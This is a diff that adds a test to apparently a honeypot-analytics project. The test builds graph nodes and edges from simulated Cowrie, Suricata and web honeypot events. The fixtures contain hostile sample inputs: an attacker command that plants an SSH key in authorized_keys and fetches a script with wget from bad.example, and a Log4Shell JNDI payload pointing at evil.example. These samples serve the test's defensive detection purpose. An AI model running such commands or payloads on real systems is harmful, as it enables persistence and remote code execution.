@@ -73,3 +73,30 @@ def test_spoofed_sources_and_payloads(spark):
     rows = jndi_events(events(spark, docs)).collect()
     assert sorted((x.scheme, x.host) for r in rows for x in r.jndi) == [("ldap", "evil.example"), ("rmi", "h")]
     assert sum(r.src_ip is None for r in rows) == 1 and sorted(r.international for r in rows if r.family == "Sentrypeer") == [False, True]
+
+
+def test_nodes_and_edges_of_sessions(spark):
+    from hivelens.operators.joins import without_dangling
+    from hivelens.operators.observables import jndi_nodes, observable_edges, observable_nodes, with_evidence
+
+    key = "ssh-rsa " + "B" * 40
+    s = {"session": "s1", "dest_port": 22}
+    docs = [
+        doc("Cowrie", 0, **s, eventid="cowrie.login.success", username="root", password="b", ip_rep="known attacker"),
+        doc("Cowrie", 1, **s, input=f"echo {key} >> ~/.ssh/authorized_keys; wget http://bad.example/x.sh"),
+        doc("Cowrie", 2, **s, shasum=SHA, hassh="h1"), doc("Cowrie", 3, **s, input="wget http://nope/x y"),
+        doc("Suricata", 4, alert={"signature": "CVE-2021-44228"}), doc("H0neytr4p", 5, request_uri="/${jndi:ldap://evil.example/a}"),
+        doc("Fatt", 6, src_ip="203.0.114.8", fatt_tls={"ja3": "j3"}),
+    ]
+    rows = jndi_events(events(spark, docs))
+    sessions = with_evidence(correlate(addressed(rows)))
+    nodes, edges = observable_nodes(sessions), observable_edges(sessions)
+    kinds = {}
+    for r in nodes.collect():
+        kinds.setdefault(r.kind, []).append(r)
+    assert {k: len(v) for k, v in kinds.items()} == {"address": 2, "indicator": 2, "sensor": 1, "country": 1, "network": 1, "process": 1, "file": 1, "file-indicator": 1, "url": 1, "domain": 1, "vulnerability": 1, "technique": 7, "ssh-key": 1, "fingerprint": 2}
+    assert max(r.score for r in kinds["address"]) == 100 and kinds["domain"][0].name == "bad.example"
+    made = edges.collect()
+    assert without_dangling(edges, nodes).count() == len(made) == len({r.id for r in made})
+    assert {r.kind for r in made} == {"based-on", "located-at", "belongs-to", "indicates", "related-to"}
+    assert [(r.group, r.events) for r in jndi_nodes(rows).collect()] == [("evil.example", 1)]
